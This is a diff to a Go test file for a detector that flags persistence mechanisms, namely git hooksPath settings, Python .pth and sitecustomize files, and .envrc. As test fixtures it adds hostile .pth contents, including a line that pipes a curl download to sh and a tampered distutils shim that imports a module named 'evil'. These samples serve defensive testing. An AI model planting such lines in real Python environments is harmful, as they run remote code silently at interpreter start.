@@ -10,6 +10,7 @@ import (
 func TestPersistenceMechanism(t *testing.T) {
 	hooks := func() []byte { return []byte("[core]\n\thooksPath = /tmp/h\n") }
 	plain := func() []byte { return []byte("[core]\n\tbare = false\n") }
+	text := func(s string) func() []byte { return func() []byte { return []byte(s) } }
 	for _, c := range []struct {
 		path    string
 		content func() []byte
@@ -50,8 +51,12 @@ func TestPersistenceMechanism(t *testing.T) {
 		{"/work/repo/.git/config", hooks, MechGitHooksPath},
 		{"/work/repo/.git/config", plain, ""},
 		{"/work/repo/.git/config", nil, ""},
-		{"/usr/lib/python3/dist-packages/evil.pth", nil, MechPythonPth},
+		{"/usr/lib/python3/dist-packages/evil.pth", nil, MechPythonPth}, // refused: content unknown
 		{"/tmp/.local/lib/python3.11/site-packages/x.pth", nil, MechPythonPth},
+		{"/tmp/v/lib/python3.11/site-packages/x.pth", text("import os; os.system('curl x|sh')\n"), MechPythonPth},
+		{"/tmp/v/lib/python3.11/site-packages/x.pth", text("/opt/lib\n# import nothing\n"), ""},
+		{"/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth", text("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"), ""},
+		{"/tmp/v/lib/python3.11/site-packages/distutils-precedence.pth", text("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = True; __import__('evil')\n"), MechPythonPth},
 		{"/tmp/.local/lib/python3.11/site-packages/sitecustomize.py", nil, MechPythonSite},
 		{"/usr/lib/python3.11/usercustomize.py", nil, MechPythonSite},
 		{"/work/repo/.envrc", nil, MechEnvrc},
@@ -89,6 +94,7 @@ func TestComparePersistence(t *testing.T) {
 		{Mechanism: MechCron, Path: "/etc/cron.d/x", Change: ChangeRefused},
 	}
 	r := mk()
+	FindPersistence(r, nil)
 	Compare(Expect{}, r)
 	if r.Verdict != report.VerdictViolation || len(r.Violations) != 3 {
 		t.Fatalf("deny: verdict %s, violations %v", r.Verdict, r.Violations)
@@ -103,6 +109,7 @@ func TestComparePersistence(t *testing.T) {
 	}
 	checkPersistence(t, r.Persistence, want)
 	r = mk()
+	FindPersistence(r, nil)
 	Compare(Expect{PersistenceAllowed: true}, r)
 	if r.Verdict != report.VerdictPass {
 		t.Fatalf("allow: verdict %s, violations %v", r.Verdict, r.Violations)
